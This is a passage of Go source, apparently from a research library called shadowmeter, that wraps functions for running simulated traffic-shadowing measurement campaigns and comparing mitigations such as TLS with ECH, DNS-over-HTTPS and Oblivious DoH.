// it runs baseline, TLS+ECH, DNS-over-HTTPS, and Oblivious-DoH campaigns
// in identical worlds and reports how much the wire observed, how much
// shadowing persisted at destinations, and how origin visibility changes.
// Render the result with RenderMitigationStudy.
func MitigationStudy(seed int64) []MitigationResult {
	return core.MitigationStudy(seed)
}

// RenderMitigationStudy formats a mitigation study as a table with
// commentary.
func RenderMitigationStudy(results []MitigationResult) string {
	return core.RenderMitigationStudy(results)
}

// NewExperiment builds the world and returns the experiment ready to step:
//
//	e := shadowmeter.NewExperiment(cfg)
//	e.ScreenPairResolvers()
//	e.RunPhaseI()
//	e.RunPhaseII()
//	report := e.Compile()
func NewExperiment(cfg Config) *Experiment {
	return core.NewExperiment(cfg)
}
